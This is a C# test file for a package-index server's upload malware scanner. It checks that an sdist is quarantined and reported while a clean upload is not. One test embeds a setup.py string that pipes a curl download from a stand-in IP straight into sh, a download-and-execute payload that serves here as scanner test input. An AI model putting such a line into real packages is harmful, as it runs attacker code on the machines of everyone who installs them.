using System.Formats.Tar;
using System.IO.Compression;
using System.Net;
using System.Security.Cryptography;
using System.Text;
using Bulwark.Core.Moderation.Reports;
using Bulwark.Core.Packaging;
using Bulwark.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace Bulwark.Tests.Moderation;

/// <summary>The malware scan of every upload: malicious files are held (release quarantined, report with findings).</summary>
public abstract class UploadScanTests<TServer>(TServer server) : ModerationTestBase<TServer>(server) where TServer : BulwarkServer
{
    /// <summary>An upload form for an sdist whose setup.py is <paramref name="setupPy"/>.</summary>
    private static UploadForm SdistWithSetupPy(TestDistributions.Spec spec, string setupPy)
    {
        using var ms = new MemoryStream();
        using (var gz = new GZipStream(ms, CompressionLevel.Fastest, leaveOpen: true))
        using (var tar = new TarWriter(gz, TarEntryFormat.Pax, leaveOpen: true))
        {
            foreach (var (name, content) in TestDistributions.SdistMembers(spec).Append(($"{spec.Prefix}/setup.py", setupPy)))
            {
                tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, name) { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(content)) });
            }
        }
        var bytes = ms.ToArray();
        var form = UploadForm.For(spec, wheel: false);
        form.Content = bytes;
        return form.Set("sha256_digest", Convert.ToHexStringLower(SHA256.HashData(bytes))).Set("md5_digest", Convert.ToHexStringLower(MD5.HashData(bytes)));
    }

    private async Task<HttpResponseMessage> SendAsync(string token, UploadForm form)
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, "/legacy/") { Content = form.ToContent() };
        request.Headers.Authorization = UploadForm.TokenAuth(token);
        return await Server.CreateClient().SendAsync(request);
    }

    [Fact]
    public async Task A_setup_py_that_downloads_and_runs_a_payload_is_held_with_the_finding_in_a_report()
    {
        var (name, token) = await PublishAsync(null, "1.0");
        var spec = new TestDistributions.Spec(name, "2.0");

        var response = await SendAsync(token, SdistWithSetupPy(spec, "import os\nfrom setuptools import setup\nos.system('curl -s http://203.0.114.9/x | sh')\nsetup()\n"));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("held for review", await response.Content.ReadAsStringAsync());
        var release = await Server.WithDbAsync(db => db.Releases.AsNoTracking().SingleAsync(r => r.Project.Name == name && r.Version == "2.0"));
        Assert.Equal(ReleaseLifecycle.Quarantined, release.Lifecycle);
        Assert.DoesNotContain("-2.0", await SimpleHtmlAsync(name));
        Assert.Contains("-1.0", await SimpleHtmlAsync(name));
        var report = await Server.WithDbAsync(db => db.ProjectReports.AsNoTracking().SingleAsync(r => r.ProjectName == name));
        Assert.Equal((ReportKind.Malware, "2.0"), (report.Kind, report.Version));
        Assert.Contains("shell-downloader", report.Summary);
        var finding = await Server.WithDbAsync(db => db.ModerationFindings.AsNoTracking().SingleAsync(f => f.ProjectName == name));
        Assert.Equal(("scan", spec.SdistFilename), (finding.Detector, finding.Filename));
        Assert.Contains("setup.py", finding.Details);
        Assert.Contains("curl", finding.Details);
    }

    [Fact]
    public async Task A_clean_upload_files_no_report()
    {
        var (name, _) = await PublishAsync(null, "1.0");
        Assert.False(await Server.WithDbAsync(db => db.ProjectReports.AnyAsync(r => r.ProjectName == name)));
        Assert.False(await Server.WithDbAsync(db => db.ModerationFindings.AnyAsync(f => f.ProjectName == name)));
        Assert.Contains("-1.0", await SimpleHtmlAsync(name));
    }
}

public sealed class UploadScanTestsSqlite(SqliteServer s) : UploadScanTests<SqliteServer>(s), IClassFixture<SqliteServer>;

public sealed class UploadScanTestsPostgres(PostgresServer s) : UploadScanTests<PostgresServer>(s), IClassFixture<PostgresServer>;
